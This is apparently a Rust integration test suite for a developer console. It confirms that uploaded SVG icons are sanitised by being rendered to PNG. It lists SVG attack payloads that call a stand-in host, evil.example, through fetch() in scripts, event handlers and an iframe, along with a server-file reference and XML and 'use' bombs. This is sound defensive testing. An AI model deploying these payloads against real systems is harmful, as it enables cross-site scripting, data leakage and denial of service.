//! SVG icons are rendered to PNG when uploaded; SVG is never stored or served back (issue 15:
//! the old pattern rules had gaps, and the same bytes served anywhere else ran script).

use std::time::{Duration, Instant};

use clientele_tests::console_api::{app_draft, spawn_app_with_developer, ConsoleUser};
use clientele_tests::fixtures::{svg_base64, SAFE_SVG};
use clientele_tests::TestApp;
use reqwest::header;
use serde_json::{json, Value};

/// A 64-unit icon: a visible square under the attack, so the rendering has pixels to show.
fn icon(attack: &str) -> String {
    format!(
        r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" viewBox="0 0 64 64"><rect x="8" y="8" width="48" height="48" fill="#2456d6"/>{attack}</svg>"##
    )
}

/// The payloads that got past the old sanitiser, and the classic ones it caught.
const ATTACKS: &[(&str, &str)] = &[
    (
        "escaped url()",
        r#"<style>circle { fill: u\72l(https://evil.example/a.png) }</style><circle r="4"/>"#,
    ),
    (
        "escaped @import",
        r#"<style>@\69mport "https://evil.example/b.css";</style>"#,
    ),
    (
        "image-set()",
        r#"<rect width="8" height="8" style="fill: image-set('https://evil.example/c.png' 1x)"/>"#,
    ),
    (
        "XHTML meta refresh",
        r#"<foreignObject width="64" height="64"><html xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="refresh" content="0;url=https://evil.example/d"/></html></foreignObject>"#,
    ),
    (
        "object",
        r#"<foreignObject width="64" height="64"><object xmlns="http://www.w3.org/1999/xhtml" data="https://evil.example/e.svg"/></foreignObject>"#,
    ),
    (
        "form",
        r#"<foreignObject width="64" height="64"><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/f"><button>Go</button></form></foreignObject>"#,
    ),
    (
        "iframe srcdoc",
        r#"<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;fetch('https://evil.example/g')&lt;/script&gt;"/></foreignObject>"#,
    ),
    (
        "script",
        r#"<script>fetch("https://evil.example/h")</script>"#,
    ),
    (
        "event handler",
        r#"<rect width="8" height="8" onload="fetch('https://evil.example/i')"/>"#,
    ),
    (
        "image from a server path",
        r#"<image href="/etc/hostname" width="64" height="64"/>"#,
    ),
];

fn draft_with_icon(svg: &str) -> Value {
    let mut draft = app_draft("Vector Icon");
    draft["icon"] = json!(svg_base64(svg));
    draft
}

async fn register_with_icon(user: &ConsoleUser, svg: &str) -> reqwest::Response {
    user.post("/api/v1/apps", &draft_with_icon(svg)).await
}

/// The icon at `size` pixels: asserts it is a PNG of that size and returns its bytes.
async fn served_png(app: &TestApp, icon_url: &str, size: u32) -> Vec<u8> {
    let response = app.get(&format!("{icon_url}&size={size}")).await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()[header::CONTENT_TYPE], "image/png");
    let bytes = response.bytes().await.unwrap().to_vec();
    assert!(bytes.starts_with(b"\x89PNG\r\n\x1a\n"), "PNG magic");
    let image = image::load_from_memory_with_format(&bytes, image::ImageFormat::Png).unwrap();
    assert_eq!((image.width(), image.height()), (size, size));
    bytes
}

#[tokio::test]
async fn every_svg_attack_payload_is_served_back_only_as_png_pixels() {
    let (app, user) = spawn_app_with_developer().await;
    for (name, attack) in ATTACKS {
        let response = register_with_icon(&user, &icon(attack)).await;
        let status = response.status();
        let created: Value = response.json().await.unwrap();
        assert_eq!(status, 201, "{name}: {created}");
        let icon_url = created["app"]["icon_url"].as_str().unwrap().to_owned();
        let large = served_png(&app, &icon_url, 64).await;
        served_png(&app, &icon_url, 32).await;
        let text = String::from_utf8_lossy(&large);
        assert!(
            !text.contains("<svg") && !text.contains("evil.example"),
            "{name}: SVG bytes served"
        );
        // The blue square was drawn: the pixels are the icon, not an empty image.
        let pixel = image::load_from_memory(&large)
            .unwrap()
            .to_rgba8()
            .get_pixel(32, 32)
            .0;
        assert_eq!(pixel, [0x24, 0x56, 0xd6, 0xff], "{name}");
    }
    let stored: Vec<String> = app.scalars("SELECT content_type FROM app_icons").await;
    assert_eq!(stored.len(), ATTACKS.len());
    assert!(
        stored
            .iter()
            .all(|content_type| content_type == "image/png"),
        "{stored:?}"
    );
    let svg_bytes = app
        .count("SELECT COUNT(*) FROM app_icons WHERE content_type <> 'image/png'")
        .await;
    assert_eq!(svg_bytes, 0);
}

#[tokio::test]
async fn an_svg_without_a_size_is_scaled_to_fit_the_square() {
    let (app, user) = spawn_app_with_developer().await;
    let created = user.register_app(&draft_with_icon(SAFE_SVG)).await;
    let icon_url = created["app"]["icon_url"].as_str().unwrap().to_owned();
    let large = served_png(&app, &icon_url, 64).await;
    let image = image::load_from_memory(&large).unwrap().to_rgba8();
    assert_eq!(
        image.get_pixel(32, 32).0,
        [0x24, 0x56, 0xd6, 0xff],
        "the circle's centre"
    );
    assert_eq!(
        image.get_pixel(0, 0).0[3],
        0,
        "transparent outside the circle"
    );
}

#[tokio::test]
async fn an_svg_stored_before_is_never_served() {
    let (app, user) = spawn_app_with_developer().await;
    let created = user.register_app(&draft_with_icon(SAFE_SVG)).await;
    let client_id = created["app"]["client_id"].as_str().unwrap().to_owned();
    let icon_url = created["app"]["icon_url"].as_str().unwrap().to_owned();
    // As the server stored SVG icons before this change.
    let svg = icon(r#"<script>alert(1)</script>"#).into_bytes();
    sqlx::query("UPDATE app_icons SET content_type = 'image/svg+xml', small = $1, large = $1 WHERE client_id = $2")
        .bind(&svg)
        .bind(&client_id)
        .execute(app.state.store.pool())
        .await
        .unwrap();
    let response = app.get(&icon_url).await;
    assert_eq!(response.status(), 404);
    assert!(!response.text().await.unwrap().contains("<svg"));
}

/// Each level uses the previous one ten times: 10^levels rectangles.
fn use_bomb(levels: usize) -> String {
    let mut body = String::from(r#"<defs><rect id="l0" width="1" height="1"/>"#);
    for level in 1..=levels {
        body.push_str(&format!("<g id=\"l{level}\">"));
        for _ in 0..10 {
            body.push_str(&format!("<use href=\"#l{}\"/>", level - 1));
        }
        body.push_str("</g>");
    }
    body.push_str(&format!("</defs><use href=\"#l{levels}\"/>"));
    icon(&body)
}

#[tokio::test]
async fn malformed_huge_and_bomb_svgs_get_a_clear_icon_error_quickly() {
    let (app, user) = spawn_app_with_developer().await;
    let table: Vec<(&str, String, &str)> = vec![
        ("not well-formed", r#"<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>"#.to_owned(), "not well-formed XML"),
        (
            "nested 100,000 deep",
            icon(&format!("{}{}", "<g>".repeat(100_000), "</g>".repeat(100_000))),
            "at most 48 deep",
        ),
        ("60,000 elements", icon(&"<rect/>".repeat(60_000)), "at most 4,000 elements"),
        ("use bomb of 10^9 shapes", use_bomb(9), "too many shapes"),
        (
            "entity expansion",
            "<!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]><svg xmlns=\"http://www.w3.org/2000/svg\">&b;</svg>".to_owned(),
            "DOCTYPE",
        ),
        (
            // A 10^9-unit canvas at 64 px: fine. A pattern tile 10^5 units wide on a 1-unit
            // canvas drawn at 64 px: a 6.4-million-pixel-wide tile, which resvg would try to
            // allocate.
            "huge pattern tile",
            r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><defs><pattern id="p" patternUnits="userSpaceOnUse" width="100000" height="100000"><rect width="1" height="1"/></pattern></defs><rect width="1" height="1" fill="url(#p)"/></svg>"##.to_owned(),
            "too complex to draw",
        ),
        ("no size at all", r#"<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>"#.to_owned(), "could not be drawn"),
    ];
    for (name, svg, message) in table {
        let started = Instant::now();
        let response = register_with_icon(&user, &svg).await;
        let elapsed = started.elapsed();
        assert_eq!(response.status(), 422, "{name}");
        let error: Value = response.json().await.unwrap();
        let field = error["fields"]["icon"].as_str().unwrap_or_default();
        assert!(field.contains(message), "{name}: {error}");
        assert!(elapsed < Duration::from_secs(2), "{name} took {elapsed:?}");
    }
    let apps = app.count("SELECT COUNT(*) FROM apps").await;
    assert_eq!(apps, 0);
}

#[tokio::test]
async fn a_huge_canvas_renders_as_a_64_pixel_png() {
    let (app, user) = spawn_app_with_developer().await;
    let svg = r##"<svg xmlns="http://www.w3.org/2000/svg" width="1000000000" height="1000000000"><rect width="1000000000" height="1000000000" fill="#2456d6"/></svg>"##;
    let created = user.register_app(&draft_with_icon(svg)).await;
    let icon_url = created["app"]["icon_url"].as_str().unwrap().to_owned();
    served_png(&app, &icon_url, 64).await;
}
